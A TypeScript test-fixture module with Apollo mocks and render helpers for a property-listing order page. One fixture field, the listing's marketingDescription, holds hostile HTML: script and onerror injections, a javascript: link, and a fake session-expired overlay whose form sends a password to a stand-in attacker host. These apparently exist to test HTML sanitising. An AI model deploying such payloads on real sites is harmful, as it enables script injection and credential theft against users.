// Test data for the order tabs: one listing's order as getAssetDetails returns it, and Apollo mocks around it.
import { createElement } from 'react';
import { vi } from 'vitest';
import { screen } from '@testing-library/react';
import type { UserEvent } from '@testing-library/user-event';
import type { MockLink } from '@apollo/client/testing';
import { ORDER_MESSAGES } from '@vms/shared';
import { AddAssetDetailsDocument, AssetOrderDocument, OrderPlansDocument, type AssetOrderQuery } from '../../../../gql/graphql';
import { renderRoutes } from '../../../../test/render';
import { PropertyDetailPage } from '../../pages/PropertyDetailPage';

export type OrderDetail = AssetOrderQuery['getAssetDetails'];

export const ASSET_ID = '0b9f3f3e-6c1a-4d6e-9a59-1f4f3c1c2a10';
export const BROKER_A = '5d1c1a0e-1111-4a5e-8c11-0a0a0a0a0a01';
export const BROKER_B = '5d1c1a0e-2222-4a5e-8c11-0a0a0a0a0a02';
export const CITY_ID = '7e2a9d44-0001-4b7b-9d11-aaaaaaaaaa01';
export const CALLOUT_ID = '7e2a9d44-0002-4b7b-9d11-aaaaaaaaaa02';

const broker = (id: string, firstName: string, lastName: string) => ({
  __typename: 'SearchBroker' as const,
  id,
  firstName,
  lastName,
  photoUrl: null,
  phone: '(312) 555-0101',
  email: `${firstName.toLowerCase()}@harbor.example`,
  brokerages: [{ __typename: 'Brokerage' as const, name: 'Harbor Commercial' }],
});

/** The generated types leave __typename out; the mocked cache wants it, hence the assertion. */
export function orderDetail(patch: Partial<OrderDetail> = {}, assetPatch: Partial<OrderDetail['asset']> = {}): OrderDetail {
  return {
    __typename: 'AssetDetail',
    projectPlan: 'PLATINUM',
    status: 'Inprogress',
    savedTab: null,
    isPending: false,
    eliteAuction: null,
    mapScreenshot: null,
    mapScreenshotKey: null,
    mapGeopoints: null,
    userInstructions: null,
    callToAction: null,
    interiorVideoContact: null,
    auction: null,
    crexiDefaultBrokers: [],
    includedBrokers: [],
    nearbyCities: [{ __typename: 'NearbyPlace', id: CITY_ID, name: 'Chicago', distanceFromAsset: 200 }],
    nearbyCallouts: [{ __typename: 'NearbyPlace', id: CALLOUT_ID, name: 'Navy Pier', distanceFromAsset: 10 }],
    ...patch,
    asset: {
      __typename: 'OrderAsset',
      id: ASSET_ID,
      name: 'Harbor Point Plaza',
      assetCrexiId: 'crx-1001',
      crexiUrl: 'https://listings.example.com/harbor-point',
      askingPrice: 1250000,
      description: 'Retail centre on the lake front',
      thumbnailUrl: 'https://img.example.com/harbor.jpg',
      marketingDescription:
        '<p>Prime <b>corner</b> lot<script>alert(1)</script><img src="x" onerror="alert(2)"></p><div style="position:fixed;inset:0">Session expired<form action="https://evil.example"><input name="password"></form></div><a href="javascript:alert(3)">more</a>',
      companyNames: ['Harbor Commercial'],
      activatedOn: '2026-01-10T12:00:00.000Z',
      updatedOn: '2026-01-20T12:00:00.000Z',
      status: 'Active',
      isPrivate: true,
      galleryCount: 4,
      latitude: 41.88,
      longitude: -87.63,
      brokers: [broker(BROKER_A, 'Dana', 'Reyes'), broker(BROKER_B, 'Sam', 'Okafor')],
      locations: [
        {
          __typename: 'AssetLocation',
          address: '200 Harbor Dr',
          city: 'Chicago',
          county: 'Cook County',
          zip: '60601',
          state: { __typename: 'AssetState', name: 'IL' },
        },
      ],
      details: {
        __typename: 'AssetDetailsInfo',
        propertyType: 'Retail',
        fields: [
          { __typename: 'AssetDetailField', name: 'buildingSize', value: '42,000 SF' },
          { __typename: 'AssetDetailField', name: 'yearBuilt', value: '1998' },
        ],
      },
      ...assetPatch,
    },
  } as OrderDetail;
}

export const orderQueryMock = (detail: OrderDetail = orderDetail()): MockLink.MockedResponse => ({
  request: { query: AssetOrderDocument, variables: { assetId: ASSET_ID } },
  result: { data: { getAssetDetails: detail } },
  maxUsageCount: 20,
  delay: 0,
});

export const PLANS = [
  { id: 'p-plat', type: 'PLATINUM', price: 2500, default: true, description: ['Aerial video', 'Interior video'] },
  { id: 'p-gold', type: 'GOLD', price: 1800, default: false, description: ['Aerial video'] },
  { id: 'p-silver', type: 'SILVER', price: 900, default: false, description: ['Aerial photos'] },
];

export const plansMock = (): MockLink.MockedResponse => ({
  request: { query: OrderPlansDocument },
  result: { data: { getPlans: { __typename: 'PlanData', plans: PLANS.map((p) => ({ __typename: 'Plan', ...p })) } } },
  maxUsageCount: 10,
  delay: 0,
});

/** addAssetDetails answering every call; `calls` shows the variables each call sent. */
export function saveDetailsMock(message: string = ORDER_MESSAGES.detailsAdded) {
  const calls = vi.fn();
  const mock: MockLink.MockedResponse = {
    request: { query: AddAssetDetailsDocument, variables: () => true },
    result: (variables: Record<string, unknown>) => {
      calls(variables);
      return { data: { addAssetDetails: { __typename: 'MessageResult', message } } };
    },
    maxUsageCount: 10,
    delay: 0,
  };
  return { mock, calls };
}

export const ORDER_BASE = `/crexi-search/property-detail/${ASSET_ID}`;

/** The order page at one tab, with a stand-in for the search results it returns to. */
export function renderOrder(tab: string, mocks: MockLink.MockedResponse[]) {
  const page = createElement(PropertyDetailPage);
  return renderRoutes(
    [
      { path: '/crexi-search/property-detail/:assetId/:tab?', element: page },
      { path: '/crexi-search/results', element: createElement('p', null, 'Search results') },
    ],
    `${ORDER_BASE}/${tab}`,
    mocks,
  );
}

// A tab's first render (Mantine inputs, the plans query) can take over a second on a loaded machine.
export const findTabHeading = (title: string) => screen.findByRole('heading', { level: 1, name: title }, { timeout: 4000 });

/** Replaces a field's text in one paste: typing key by key re-renders the page per key, slow on a loaded machine. */
export async function enter(user: UserEvent, field: HTMLElement, text: string) {
  await user.clear(field);
  await user.click(field);
  await user.paste(text);
}
